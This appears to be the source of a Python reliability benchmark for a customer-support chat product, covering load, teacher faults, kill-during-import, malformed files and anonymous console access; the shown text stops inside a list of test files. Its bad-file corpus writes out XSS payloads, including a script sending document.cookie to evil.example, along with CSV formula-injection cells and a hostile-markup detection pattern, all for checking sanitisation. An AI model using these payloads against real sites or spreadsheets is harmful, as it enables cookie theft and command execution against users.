"""Reliability benchmark: the probes of issue #11 (safe in front of customers) as one repeatable run.

    python -m eval.bench_reliability                 # every probe with the issue's sizes (several minutes)
    python -m eval.bench_reliability --quick         # small sizes, about four minutes
    python -m eval.bench_reliability --only load,kill

The product is driven the way its users drive it: the chat and the console are `assistant serve` in a
subprocess, imports are `assistant import` in a subprocess, each configured only through environment
variables (ASSISTANT_HOME in a temporary directory, never an existing one; ASSISTANT_TEACHER_BASE_URL at
this bench's own loopback teacher, eval.fake_teacher.FaultyTeacher; ASSISTANT_EMBEDDER=hashing, so
retrieval needs no model load; the sample company not seeded). Nothing of this process's own settings
reaches them. Probes (each a function below):

- load: N chat clients (gradio_client, `/send`, in a process of their own) x T seconds against the served
  app, while a separate process imports M generated conversations into the same store. Every message goes
  to a loopback teacher that echoes it (ASSISTANT_ROUTER_THRESHOLD=0), so a reply costs no model time: the
  point is the store. Requests, customer-visible errors (a reply saying "went wrong", a rate-limit refusal,
  a reply that is not the answer to the message sent), lost exchanges (replies received minus rows in
  `exchanges`), the longest wait, and the import's `lock_held_s` (the importer's own measurement, which the
  CLI does not print, so this import calls `distill.importer.import_file` in its own process). The load
  keeps going until the import has finished, so its swap always happens under load. The chat's rate limit
  is off (ASSISTANT_CHAT_RATE_LIMIT=0): every client comes from one address.
- teacher: the chat served with a real HTTP teacher (ASSISTANT_TEACHER_BASE_URL, every message to the
  teacher) that answers 500, 429 with Retry-After, a garbage body, a broken event stream, an empty `{}`
  answer, a stream that stalls after its first piece, or nothing at all (hangs), or has gone (connection
  refused); and a healthy stream as control. Time until the reply, the notice the customer sees, and the
  exchange logged with the failure. The student that answers instead is the packaged base, held to a few
  tokens (ASSISTANT_MAX_NEW_TOKENS) so that its generation does not blur the wait the deadline bounds. A
  teacher that drips a piece every few seconds is measured too, for information.
- kill: `assistant import` killed with SIGKILL at each stage (interpreter starting, staging file created,
  staging half done, staging nearly done, during the swap's write transaction, after the commit).
  Afterwards the store holds exactly what it held before (or, after the commit, all of the import),
  `PRAGMA integrity_check` is ok, and the next import still runs and clears the scratch files.
- badfiles: every file of a corpus (the repo's bad-file fixtures and files generated here: legacy
  encodings, UTF-16/32 with and without BOM, truncated JSON, binary, empty, HTML, formulas ...) through
  `assistant import`: a file that cannot be imported exits non-zero with one line naming the file and the
  reason, and changes nothing; a file that is importable after decoding and cleaning is imported, and
  nothing hostile (U+FFFD, NUL, markup, a live formula) is stored.
- injection: eval.bench_injection's injection set through each prompt builder (the live teacher's system
  prompt, the labeller's prompt, the judge's prompts, the student's grounding): inert or not.
- console: every console function called anonymously over HTTP (named calls, queue joins by index, config,
  API info, upload, file route) against a served app with a console user: all refused (401/403); the
  public chat's API lists no console function and refuses calls to one. The console's functions are
  listed from its config as a signed-in user sees it.

Columns: requests (calls, files, kills or prompts made), errors (target misses), lost rows (exchanges or
rows missing or changed against what should be there), max wait (the longest a caller waited), leaks
(what should not have got out: internals shown to a customer, hostile text stored, scratch files left,
console data served anonymously). A pass/fail line per target follows the table.
"""

from __future__ import annotations

import argparse
import json
import logging
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import threading
import time
import traceback
from dataclasses import dataclass, field
from pathlib import Path

from eval.fake_teacher import TEACHER_TEXT, FaultyTeacher
from eval.product import CLI, REPO, Served, child_env, cli, db_path, reply_text, served

FIXTURES = REPO / "tests" / "fixtures"
DEFAULTS = {"clients": 16, "seconds": 120.0, "conversations": 60_000, "kill_conversations": 20_000}
QUICK = {"clients": 4, "seconds": 10.0, "conversations": 5_000, "kill_conversations": 3_000}
REPLY_TARGET_S = 10.0
STUDENT_TOKENS = 8  # the fallback student's reply length in the teacher probe


@dataclass
class Row:
    probe: str
    requests: int = 0
    errors: int = 0
    lost: int | None = 0
    max_wait: float | None = None
    leaks: int | None = 0
    notes: str = ""
    targets: list[tuple[bool, str]] = field(default_factory=list)  # (met, what)


def say(*parts) -> None:
    print(*parts, flush=True)


# ---- reading the results -----------------------------------------------------------------------------

def table_counts(db: Path) -> dict[str, int]:
    conn = sqlite3.connect(db)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                             "AND name NOT LIKE 'sqlite_%' ORDER BY name")]
        return {t: conn.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
    finally:
        conn.close()


def snapshot(db: Path) -> tuple:
    """What an import may write, read through a fresh connection: equal snapshots, untouched store."""
    conn = sqlite3.connect(db)
    try:
        return tuple(conn.execute(f"SELECT * FROM {t} ORDER BY id").fetchall() for t in ("conversations", "imports"))
    finally:
        conn.close()


def integrity(db: Path) -> str:
    conn = sqlite3.connect(db)
    try:
        return conn.execute("PRAGMA integrity_check").fetchone()[0]
    finally:
        conn.close()


def scratch_files(db: Path) -> list[Path]:
    """What an import left in its staging folder."""
    return list((db.parent / (db.name + ".import-staging")).glob("*"))


def generate(path: Path, n: int) -> Path:
    from eval.bench_import import generate as gen

    gen(path, n)
    return path


# ---- 1. load: chat clients with an import alongside ----------------------------------------------------

def _client_worker(url: str, index: int, end: float, hard_end: float, stop: Path, think: float, per_session: int,
                   results: list) -> None:
    from gradio_client import Client

    client = Client(url, verbose=False)
    n = 0
    while True:
        now = time.time()
        if (now >= end and stop.exists()) or now >= hard_end:
            break
        topic = "I want a refund for order" if n % 3 == 2 else "where is my order"
        message = f"client {index} message {n}: {topic} NH-{index:02d}{n:05d}?"
        t0 = time.time()
        outcome, detail = "ok", ""
        try:
            history = client.predict(message, [], api_name="/send")[0]
            text = reply_text(history)
            if "went wrong" in text:
                outcome, detail = "error", text[:200]
            elif "faster than we can answer" in text:
                outcome, detail = "refused", text[:200]
            elif message not in text:  # the echo teacher repeats the message: anything else is someone else's reply
                outcome, detail = "wrong", text[:200]
        except Exception as exc:  # the client saw no reply at all
            outcome, detail = "exception", f"{type(exc).__name__}: {exc}"[:200]
        results.append({"t": t0, "wait": time.time() - t0, "outcome": outcome, "detail": detail, "client": index})
        n += 1
        if n % per_session == 0:
            try:
                client.predict(api_name="/new_conversation")
            except Exception as exc:
                results.append({"t": time.time(), "wait": 0.0, "outcome": "exception", "client": index,
                                "detail": f"new_conversation: {type(exc).__name__}: {exc}"[:200], "not_a_send": True})
        if think:
            time.sleep(think)


def _child_clients(args: dict) -> None:
    """Runs in its own process, so the clients' work does not share an interpreter with anything measured."""
    results: list = []
    stop = Path(args["stop"])
    threads = [threading.Thread(target=_client_worker, daemon=True,
                                args=(args["url"], i, args["end"], args["hard_end"], stop, args["think"],
                                      args["per_session"], results))
               for i in range(args["clients"])]
    for t in threads:
        t.start()
    for t in threads:
        t.join(max(1.0, args["hard_end"] - time.time() + 120))
    print(json.dumps(results))


def _child_import(path: str, db: str) -> None:
    from assistant.store import Store
    from distill.importer import import_file

    t0 = time.time()
    s = import_file(Store(db), path)
    print(json.dumps({"start": t0, "end": time.time(), "imported": s.imported, "rejected": len(s.rejected),
                      "duplicates": s.duplicates, "lock_held_s": s.lock_held_s, "seconds": s.seconds}))


def _bench_child(args: list[str], home: Path, **popen) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "eval.bench_reliability", "--child", *args], cwd=REPO,
                            env=child_env(home), text=True, **popen)


def _chat_during_import(app: Served, home: Path, source: Path, spec: dict, import_after: float) -> tuple[list, dict]:
    """Clients chat from `spec["end"]` on until the import (started `import_after` s in) has finished;
    (one result per message, the import's summary or {"error": ...})."""
    stop = home.parent / "import-finished"
    clients = _bench_child(["clients", json.dumps({**spec, "url": app.chat_url, "stop": str(stop)})], home,
                           stdout=subprocess.PIPE)
    imp: dict = {}
    try:
        time.sleep(import_after)  # the clients are connected and chatting before the import starts
        importer = _bench_child(["import", str(source), str(app.settings.db_path)], home,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        out, err = importer.communicate()
        imp = (json.loads(out.strip().splitlines()[-1]) if importer.returncode == 0
               else {"error": (err.strip().splitlines() or ["?"])[-1]})
        stop.touch()
        stdout, _ = clients.communicate()
    finally:
        if clients.poll() is None:
            clients.kill()
    return (json.loads(stdout.strip().splitlines()[-1]) if stdout.strip() else []), imp


def probe_load(clients: int = 16, seconds: float = 120.0, conversations: int = 60_000, think: float = 0.05,
               per_session: int = 8, import_after: float = 3.0) -> Row:
    row = Row(f"load {clients}x{seconds:g}s + import {conversations:,}")
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        t0 = time.perf_counter()
        source = generate(tmp / "conversations.jsonl", conversations)
        say(f"[load] generated {conversations:,} conversations ({source.stat().st_size / 1e6:.0f} MB) "
            f"in {time.perf_counter() - t0:.1f} s")
        home = tmp / "state"
        with FaultyTeacher("echo") as echo, served(home, ASSISTANT_TEACHER_BASE_URL=echo.url, ASSISTANT_ROUTER_THRESHOLD=0,
                                                   ASSISTANT_CHAT_RATE_LIMIT=0) as app:
            start = time.time()
            spec = {"clients": clients, "end": start + seconds, "hard_end": start + max(3 * seconds, seconds + 900),
                    "think": think, "per_session": per_session}
            results, imp = _chat_during_import(app, home, source, spec, import_after)
        counts, leftovers = table_counts(app.settings.db_path), len(scratch_files(app.settings.db_path))
    _score_load(row, results, imp, start, counts, leftovers, clients)
    return row


def _score_load(row: Row, results: list, imp: dict, start: float, counts: dict, leftovers: int, clients: int) -> None:
    sends = [r for r in results if not r.get("not_a_send")]
    answered = [r for r in sends if r["outcome"] in ("ok", "wrong")]  # an exchange was logged for these
    errors = [r for r in results if r["outcome"] != "ok"]
    end = max([r["t"] + r["wait"] for r in results], default=time.time())
    row.requests, row.errors = len(sends), len(errors)
    row.lost = len(answered) - counts["exchanges"]
    row.max_wait = max((r["wait"] for r in sends), default=None)
    row.leaks = leftovers + max(0, -row.lost)  # scratch files left; exchanges logged twice

    def in_flight(a: float, b: float) -> list[float]:
        return [r["wait"] for r in sends if r["t"] <= b and r["t"] + r["wait"] >= a]

    during = in_flight(imp.get("start", 0), imp.get("end", 0))
    swap = in_flight(imp.get("end", 0) - imp.get("lock_held_s", 0) - 1.0, imp.get("end", 0))
    if "error" in imp:
        row.notes = f"import FAILED: {imp['error']}"
    else:
        row.notes = (f"import {imp['imported']:,} in {imp['end'] - imp['start']:.0f} s, lock held "
                     f"{imp['lock_held_s']:.2f} s, at {imp['end'] - start:.0f} s of {end - start:.0f} s; "
                     f"max wait while importing {max(during, default=0):.2f} s, around the swap {max(swap, default=0):.2f} s "
                     f"({len(swap)} requests); {len(sends) / (end - start):.1f} req/s")
    say(f"[load] {len(sends)} messages from {clients} clients in {end - start:.0f} s; exchanges stored "
        f"{counts['exchanges']}; conversations stored {counts['conversations']:,}")
    if sends:
        waits = sorted(r["wait"] for r in sends)
        worst = max(sends, key=lambda r: r["wait"])
        say(f"[load] wait p50 {waits[len(waits) // 2]:.2f} s, p95 {waits[int(len(waits) * 0.95)]:.2f} s, max "
            f"{worst['wait']:.2f} s (sent at {worst['t'] - start:.0f} s; the import ran "
            f"{imp.get('start', start) - start:.0f}-{imp.get('end', start) - start:.0f} s)")
    for r in errors[:5]:
        say(f"[load]   {r['outcome']}: {r['detail']}")
    imported_ok = "error" not in imp and counts["conversations"] == imp.get("imported")
    row.targets.append((row.lost == 0 and not errors and imported_ok,
                        f"load: 0 lost exchanges, 0 customer-visible errors (lost {row.lost}, errors {row.errors}"
                        f"{'' if imported_ok else ', the import did not complete'})"))


# ---- 2. teacher faults -------------------------------------------------------------------------------

# (what the customer's teacher does, FaultyTeacher mode, expected notice: "none" for the healthy control,
# "info" for a probe reported but not held to the target). "refused" closes the teacher: it comes last.
TEACHER_FAULTS = [
    ("healthy stream", "ok", "none"),
    ("hangs (no answer)", "hang", "notice"),
    ("HTTP 500", "500", "notice"),
    ("HTTP 429, Retry-After 2", "429", "notice"),
    ("garbage body", "garbage", "notice"),
    ("broken event stream", "garbage-sse", "notice"),
    ("empty {} answer", "empty", "notice"),
    ("stalls after 1st piece", "stall", "notice"),
    ("drips a piece every 3 s", "drip", "info"),
    ("connection refused", "refused", "notice"),
]
LEAK_WORDS = ("127.0.0.1", "sk-bench", "Traceback", "gpt-4o-mini", "HTTP 500", "Error:")


@dataclass
class Asked:
    """One chat message sent while the teacher misbehaves, and what came of it."""

    text: str  # the reply the customer saw
    notice: str
    wait: float
    shown: str  # everything the chat's API returned, as JSON
    logged: tuple | None  # the exchange stored for it: (routed_to, error, notice, ttft_ms, latency_ms)
    stored: int  # exchanges stored for it


def _ask(app: Served) -> Asked:
    from gradio_client import Client

    db = app.settings.db_path
    before = table_counts(db)["exchanges"]
    client = Client(app.chat_url, verbose=False)
    t0 = time.perf_counter()
    try:
        out = client.predict("Where is my order NH-20417?", [], api_name="/send")
    except Exception as exc:
        out = ([{"role": "assistant", "content": f"(no reply: {type(exc).__name__}: {exc})"}], "")
    wait = time.perf_counter() - t0
    client.close()
    conn = sqlite3.connect(db)
    logged = conn.execute("SELECT routed_to, error, notice, ttft_ms, latency_ms FROM exchanges "
                          "ORDER BY id DESC LIMIT 1").fetchone()
    conn.close()
    stored = table_counts(db)["exchanges"] - before
    return Asked(reply_text(out[0]), str(out[1] or ""), wait, json.dumps(out, ensure_ascii=False),
                 logged if stored else None, stored)


def _fault_met(asked: Asked, kind: str, target_s: float) -> bool:
    from assistant.chat import SLOW_NOTICE, UNAVAILABLE_NOTICE

    ok = (bool(asked.text) and "went wrong" not in asked.text and "(no reply" not in asked.text
          and asked.stored == 1)
    if kind == "none":
        ok = ok and asked.text == TEACHER_TEXT and not asked.notice
    elif kind == "notice":
        has_notice = SLOW_NOTICE in asked.notice or UNAVAILABLE_NOTICE in asked.notice
        ok = ok and has_notice and bool(asked.logged and asked.logged[1])
    return ok and (kind == "info" or asked.wait <= target_s)


def probe_teacher(repeats: int = 1, target_s: float = REPLY_TARGET_S) -> Row:
    row = Row("teacher faults")
    hang_waits, failures, informational = [], [], []
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp, FaultyTeacher() as teacher:
        # a real HTTP teacher, configured the way a user would; the deadline is the default one
        with served(Path(tmp) / "state", ASSISTANT_TEACHER_BASE_URL=teacher.url, ASSISTANT_TEACHER_API_KEY="sk-bench-secret-key",
                    ASSISTANT_ROUTER_THRESHOLD=0, ASSISTANT_MAX_NEW_TOKENS=STUDENT_TOKENS) as app:
            s = app.settings
            say(f"[teacher] chat teacher deadline {s.chat_teacher_deadline:g} s, client timeout "
                f"min({s.teacher_timeout:g}, deadline) x {s.teacher_max_retries} retries")
            leak_words = LEAK_WORDS + (f":{teacher.server.server_address[1]}",)
            for name, mode, kind in TEACHER_FAULTS:
                if mode == "refused":
                    teacher.close()
                else:
                    teacher.mode = mode
                for _ in range(repeats):
                    asked = _ask(app)
                    ok = _fault_met(asked, kind, target_s)
                    leak = [w for w in leak_words if w in asked.shown]
                    if kind == "info":
                        informational.append(f"{name}: {asked.wait:.1f} s")
                    else:
                        row.requests += 1
                        row.max_wait = max(row.max_wait or 0.0, asked.wait)
                        row.leaks += bool(leak)
                        row.lost += asked.stored != 1
                        row.errors += not ok
                        failures += [] if ok else [name]
                    if mode == "hang":
                        hang_waits.append(asked.wait)
                    _say_fault(name, asked, "info" if kind == "info" else "OK " if ok else "FAIL", leak)
    hang = max(hang_waits, default=float("nan"))
    row.notes = f"hang answered in {hang:.1f} s; " + "; ".join(informational) + " (information, not a target)"
    row.targets.append((bool(hang_waits) and hang <= target_s,
                        f"hanging teacher: a reply within {target_s:g} s (took {hang:.1f} s)"))
    row.targets.append((not failures and not row.leaks,
                        "teacher 500 / 429 / garbage / empty / stalled / down: the reply arrives with a notice, the "
                        "failure is logged, no internals shown" + (f" (failed: {', '.join(failures)})" if failures else "")))
    return row


def _say_fault(name: str, asked: Asked, verdict: str, leak: list[str]) -> None:
    route, error, _, ttft, _ = asked.logged or (None, None, None, None, None)
    ttft_s = f"{ttft / 1000:.1f} s" if ttft is not None else "-"
    say(f"[teacher] {name:<26} reply in {asked.wait:5.1f} s (first text {ttft_s}) {verdict} answered by {route}; "
        f"notice: {asked.notice.strip('⚠️ ') or '-'}; logged error: {error or '-'}" + (f"; LEAKED {leak}" if leak else ""))


# ---- 3. kill -9 at each stage of an import -------------------------------------------------------------

KILL_STAGES = ("starting", "staging created", "staging 50%", "staging 90%", "swap (write lock held)", "after commit")
# An import's first write (opening the store) leaves a WAL of its 32-byte header and no page: the swap is seen
# when pages follow it, not then (which killed the import while it was still staging).
WAL_HEADER = 32


def _staged_rows(folder: Path) -> int:
    best = 0
    for f in folder.glob("*.db"):
        try:
            conn = sqlite3.connect(f"file:{f}?mode=ro", uri=True, timeout=0.05)
            try:
                best = max(best, conn.execute("SELECT count(*) FROM staged").fetchone()[0])
            finally:
                conn.close()
        except sqlite3.Error:
            pass
    return best


def _stage_seen(stage: str, elapsed: float, files: list[Path], staging: Path, n: int, wal: Path, wal0: int) -> str | None:
    """What of `stage` is seen now (None: not yet): the moment to kill."""
    if stage == "starting" and elapsed >= 0.3:
        return "starting" if not files else "staging already created"
    if stage == "staging created" and files:
        return stage
    if stage.startswith("staging ") and files:
        share = int(stage.split()[1].rstrip("%")) / 100
        return stage if _staged_rows(staging) >= share * n else None
    if stage.startswith("swap") and wal.exists() and wal.stat().st_size > max(wal0, WAL_HEADER):
        time.sleep(0.002)
        return f"swap: the WAL being written, {wal.stat().st_size:,} bytes" if files else "WAL written with no staging file"
    return None


def _kill_at(stage: str, home: Path, source: Path, n: int, log: Path) -> tuple[str, float]:
    """Start `assistant import`, SIGKILL it when `stage` is seen; returns (what was seen, seconds run)."""
    db = db_path(home)
    wal, staging = Path(str(db) + "-wal"), db.parent / (db.name + ".import-staging")
    wal0 = wal.stat().st_size if wal.exists() else 0
    with open(log, "w") as out:
        proc = subprocess.Popen(CLI + ["import", str(source)], cwd=REPO, env=child_env(home), stdout=out,
                                stderr=subprocess.STDOUT)
    t0 = time.monotonic()
    seen, last_count = "finished before the stage", 0.0
    try:
        while proc.poll() is None and time.monotonic() - t0 < 900:
            files = list(staging.glob("*.db")) if staging.exists() else []
            if stage == "after commit" and files:
                while proc.poll() is None and any(f.exists() for f in files):
                    time.sleep(0.001)
                seen = stage if proc.poll() is None else "finished before the stage"
                break
            counting = stage.startswith("staging ") and files
            if not counting or time.monotonic() - last_count > 0.05:  # counting staged rows costs: not too often
                last_count = time.monotonic() if counting else last_count
                now_seen = _stage_seen(stage, time.monotonic() - t0, files, staging, n, wal, wal0)
                if now_seen:
                    seen = now_seen
                    break
            time.sleep(0.002 if stage.startswith("swap") else 0.01)
    finally:
        if proc.poll() is None:
            os.kill(proc.pid, signal.SIGKILL)
        proc.wait()
    return seen, time.monotonic() - t0


def _pristine_store(home: Path) -> dict[str, int]:
    """The store before each kill: the sample company's conversations and a few logged chats; its row counts."""
    from assistant.store import Store
    from distill.importer import import_file

    store = Store(db_path(home))
    import_file(store, REPO / "data" / "sample" / "conversations.jsonl")
    for i in range(5):
        store.log_exchange({"session_id": "s", "turn_index": i, "route": "Auto", "routed_to": "student",
                            "request_messages": [{"role": "user", "content": f"q{i}"}], "reply": f"a{i}"})
    store.db.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    store.close()
    return table_counts(db_path(home))


def _after_kill(db: Path, before: dict[str, int]) -> tuple[str, str, dict[str, int]]:
    """(integrity check, what the store holds against `before`, the row count changes)."""
    check = integrity(db)  # opening the store rolls back what the killed process left in the WAL
    after = table_counts(db)
    changed = {t: d for t in set(after) | set(before) if (d := after.get(t, 0) - before.get(t, 0))}
    conn = sqlite3.connect(db)
    last_import = conn.execute("SELECT status, imported FROM imports ORDER BY id DESC LIMIT 1").fetchone()
    conn.close()
    if not changed:
        return check, "nothing stored", changed
    if (set(changed) <= {"conversations", "imports"} and changed.get("imports") == 1
            and last_import == ("done", changed.get("conversations", 0))):
        return check, f"whole import stored (+{changed.get('conversations', 0):,})", changed
    return check, f"PARTIAL {changed}", changed


def _next_import(home: Path, source: Path, before: dict[str, int]) -> tuple[bool, int]:
    """The next import after a kill runs (the lock was released), clears the scratch file, stores all."""
    out, wait = cli(["import", str(source)], home)
    db = db_path(home)
    leftovers = len(scratch_files(db))
    imported = re.search(r"imported (\d+)", out.stdout)
    ok = (out.returncode == 0 and imported is not None and integrity(db) == "ok" and not leftovers
          and table_counts(db)["conversations"] - before["conversations"] == int(imported.group(1)))
    say(f"[kill] the next import after the kill in the swap: exit {out.returncode} in {wait:.0f} s, "
        f"{imported.group(0) if imported else out.stderr.strip()[-200:]}, scratch files left {leftovers}"
        f" {'OK' if ok else 'FAIL'}")
    return ok, leftovers


def probe_kill(conversations: int = 20_000) -> Row:
    row = Row(f"kill -9 import {conversations:,} ({len(KILL_STAGES)} stages)")
    bad, missed = [], []
    with tempfile.TemporaryDirectory(prefix="bench-reliability-") as tmp:
        tmp = Path(tmp)
        source = generate(tmp / "kill.jsonl", conversations)
        pristine = tmp / "pristine"
        before = _pristine_store(pristine)
        say(f"[kill] store before: {before['conversations']} conversations, {before['imports']} imports, "
            f"{before['exchanges']} exchanges; importing {conversations:,} generated conversations")
        for i, stage in enumerate(KILL_STAGES):
            home = tmp / f"kill-{i}"
            shutil.copytree(pristine, home)
            seen, ran = _kill_at(stage, home, source, conversations, tmp / f"kill-{i}.log")
            row.requests += 1
            wal = Path(str(db_path(home)) + "-wal")
            if stage.startswith("swap") and wal.exists():
                seen += f"; {wal.stat().st_size:,} bytes at the kill"
            check, outcome, changed = _after_kill(db_path(home), before)
            caught = seen == stage or (stage.startswith("swap") and seen.startswith("swap"))
            missed += [] if caught else [stage]
            # killed after the commit, the whole import is there; had it finished first, so it is too
            ok = check == "ok" and not outcome.startswith("PARTIAL") and (
                outcome.startswith("whole") if stage == "after commit" and caught else True)
            row.errors += not ok
            bad += [] if ok else [stage]
            row.lost += sum(abs(d) for d in changed.values()) if outcome.startswith("PARTIAL") else 0
            say(f"[kill] {stage:<24} killed after {ran:5.1f} s (seen: {seen}): integrity {check}, {outcome}"
                f" {'OK' if ok else 'FAIL'}")
        next_ok, row.leaks = _next_import(tmp / f"kill-{KILL_STAGES.index('swap (write lock held)')}", source, before)
        row.requests += 1
        row.errors += not next_ok
        row.max_wait = None
    row.notes = ("every kill left the store whole" if not bad else f"FAILED at {', '.join(bad)}") + (
        f"; stage not caught (process finished first): {', '.join(missed)}" if missed else "")
    row.targets.append((not bad and next_ok,
                        "kill -9 at each import stage: row counts as before (or the whole import after the commit), "
                        "integrity ok, the next import runs" + (f" (failed: {', '.join(bad)})" if bad else "")))
    return row


# ---- 4. bad files ------------------------------------------------------------------------------------

@dataclass
class BadFile:
    name: str
    data: bytes | None  # None: the repo's fixture of that name; b"" an empty file
    importable: bool  # legitimately importable after decoding / cleaning
    why: str  # what the file is
    reason: str = ""  # a regex the error message must match besides the file name (error files)
    text: str = ""  # text that must be stored, decoded right (importable files)
    absent: tuple = ()  # words that must not be stored (the content of removed markup)


HOSTILE_WORDS = ("alert(", "evil.example", "document.cookie", "steal(", "fallback text")
MARKUP = re.compile(r"<\s*/?\s*(script|svg|iframe|img|a|object|embed|style)\b|\bon[a-z]+\s*=|javascript\s*:|&lt;|&#",
                    re.I)


def _csv(rows: list[list[str]]) -> str:
    import csv
    import io

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def _conv(*turns: str) -> dict:
    return {"messages": [{"role": "user" if i % 2 == 0 else "assistant", "content": t} for i, t in enumerate(turns)]}


def _jsonl(*records: dict) -> str:
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


def _corpus_texts() -> dict[str, str]:
    """The texts the generated bad files are made of, before encoding."""
    hostile_html = ('<p>Hi</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
                    '<svg onload=alert(1)><circle r=1 /></svg><iframe src="https://evil.example">frame</iframe>')
    return {
        "french": _csv([["conversation_id", "role", "text"], ["f1", "customer", "Mon reçu indique 12,50 € : déjà payé ?"],
                        ["f1", "agent", "Désolé, le remboursement part aujourd'hui."]]),
        "german": _csv([["conversation_id", "role", "text"], ["g1", "customer", "Grüße, wo bleibt mein Paket?"],
                        ["g1", "agent", "Es kommt morgen, schöne Grüße."]]),
        "russian": _jsonl(_conv("Кабель не работает 😊", "Отправим новый кабель завтра.")),
        "html_csv": _csv([["conversation_id", "role", "text", "subject"],
                          ["h1", "customer", f"My camera is offline {hostile_html}", '<img src=x onerror=alert(1)>Camera'],
                          ["h1", "agent", '<div>Restart it.<a href="javascript:alert(1)">here</a></div>', ""]]),
        "formulas": _csv([["conversation_id", "role", "text", "=cmd|' /C calc'!A0", "note"],
                          ["q1", "customer", '=HYPERLINK("https://evil.example/?"&A1,"Open")', "@SUM(1+1)*cmd|x", "-2+3+cmd|x!A0"],
                          ["q1", "agent", "+cmd|' /C notepad'!A0 Your order ships today.", "x", "\t=1+1"]]),
        "page": (f"<!doctype html><html><head><title>Ticket 1</title></head><body>{hostile_html}"
                 "<p>Customer: where is my order?</p><p>Agent: it ships today.</p></body></html>"),
        "good": _jsonl(*[_conv(f"Question {i}: my hub is offline after update {i}", f"Answer {i}: restart the hub")
                         for i in range(3)]),
    }


def bad_file_corpus() -> list[BadFile]:
    """The files, each with what should become of it: a data table."""
    t = _corpus_texts()
    french, german, russian = t["french"], t["german"], t["russian"]
    return [
        # the repo's bad-file fixtures
        BadFile("broken.jsonl", None, False, "JSONL, every line broken", r"line 1: invalid JSON at column \d+"),
        BadFile("html_injection.jsonl", None, True, "script / svg / iframe / javascript: links in messages",
                absent=HOSTILE_WORDS),
        BadFile("latin1_messages.csv", None, True, "CSV in Latin-1", text="Mon café est arrivé cassé"),
        BadFile("messages_utf16be_nobom.csv", None, True, "CSV in UTF-16 BE, no BOM", text="25 °C"),
        BadFile("openai_utf16le_bom.jsonl", None, True, "JSONL in UTF-16 LE with BOM", text="Кабель не работает"),
        BadFile("openai_utf16le_nobom.jsonl", None, True, "JSONL in UTF-16 LE, no BOM", text="Кабель не работает"),
        BadFile("formulas_metadata.csv", None, True, "CSV with formulas in metadata columns and a column name"),
        # generated here
        BadFile("gen_latin1.csv", french.replace("€", "francs").encode("latin-1"), True, "CSV in Latin-1",
                text="Mon reçu indique 12,50 francs : déjà payé"),
        BadFile("gen_cp1252.csv", french.encode("cp1252"), True, "CSV in Windows-1252 (euro sign)", text="12,50 €"),
        BadFile("gen_utf16le_bom.csv", b"\xff\xfe" + german.encode("utf-16-le"), True, "CSV in UTF-16 LE with BOM",
                text="Grüße, wo bleibt"),
        BadFile("gen_utf16le_nobom.csv", german.encode("utf-16-le"), True, "CSV in UTF-16 LE, no BOM", text="Grüße, wo bleibt"),
        BadFile("gen_utf16be_bom.jsonl", b"\xfe\xff" + russian.encode("utf-16-be"), True, "JSONL in UTF-16 BE with BOM",
                text="Кабель не работает"),
        BadFile("gen_utf16be_nobom.jsonl", russian.encode("utf-16-be"), True, "JSONL in UTF-16 BE, no BOM",
                text="Кабель не работает"),
        BadFile("gen_utf32le_bom.jsonl", b"\xff\xfe\x00\x00" + russian.encode("utf-32-le"), True, "JSONL in UTF-32 LE with BOM",
                text="Кабель не работает"),
        BadFile("gen_utf8_bom.csv", b"\xef\xbb\xbf" + german.encode(), True, "CSV in UTF-8 with BOM", text="Grüße, wo bleibt"),
        BadFile("gen_html_in_csv.csv", t["html_csv"].encode(), True, "CSV with script / svg / iframe / img in text and subject",
                text="My camera is offline", absent=HOSTILE_WORDS),
        BadFile("gen_formulas.csv", t["formulas"].encode(), True, "CSV with formulas in the text, metadata and a column name",
                text="Your order ships today"),
        BadFile("gen_truncated_tail.jsonl", (t["good"] + _jsonl(_conv("cut", "off"))[:25]).encode(), True,
                "JSONL whose last line is cut off (the good lines import, the cut one is rejected)", text="Answer 2"),
        BadFile("gen_truncated.json", json.dumps([_conv("hello", "hi there")] * 3).encode()[:70], False,
                "JSON document cut off", r"invalid JSON|line \d+"),
        BadFile("gen_truncated_one.jsonl", _jsonl(_conv("where is my order?", "It ships today."))[:40].encode(), False,
                "JSONL with its only line cut off", r"line 1"),
        BadFile("gen_binary.bin", bytes(range(256)) * 8, False, "binary bytes", r"binary"),
        BadFile("gen_png.csv", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4, False,
                "a PNG image named .csv", r"binary"),
        BadFile("gen_zip.json", b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(200)) * 4, False,
                "a zip archive named .json", r"binary|JSON"),
        BadFile("gen_nul.csv", french.encode().replace(b"aujourd", b"auj\x00\x00ourd"), False,
                "CSV with NUL bytes in a message", ""),
        BadFile("gen_empty.jsonl", b"", False, "empty file", r"empty|no records"),
        BadFile("gen_empty.csv", b"", False, "empty CSV file", r"empty|no records|no rows"),
        BadFile("gen_blank.csv", b"\n\n   \n", False, "CSV of blank lines only", r"empty|no records|no rows"),
        BadFile("gen_bom_only.jsonl", b"\xef\xbb\xbf", False, "a UTF-8 BOM and nothing else", r"empty|no records"),
        BadFile("gen_header_only.csv", b"conversation_id,role,text\n", False, "CSV header, no rows", r"no records|empty"),
        BadFile("gen_page.html", t["page"].encode(), False, "an HTML page with script / svg / iframe",
                r"format|recognise|Accepted"),
        BadFile("gen_html_only.jsonl", _jsonl(_conv("<script>alert(1)</script>", "<svg onload=alert(1)></svg>"),
                                              _conv("<iframe src=https://evil.example></iframe>",
                                                    "<object data=x></object>")).encode(), False,
                "JSONL whose every message is only markup", r"nothing importable"),
        BadFile("gen_latin1.jsonl", _jsonl(_conv("Où est mon reçu, café ?", "Voilà.")).encode("latin-1"), False,
                "JSONL in Latin-1 (JSON must be UTF-8)", r"UTF-8"),
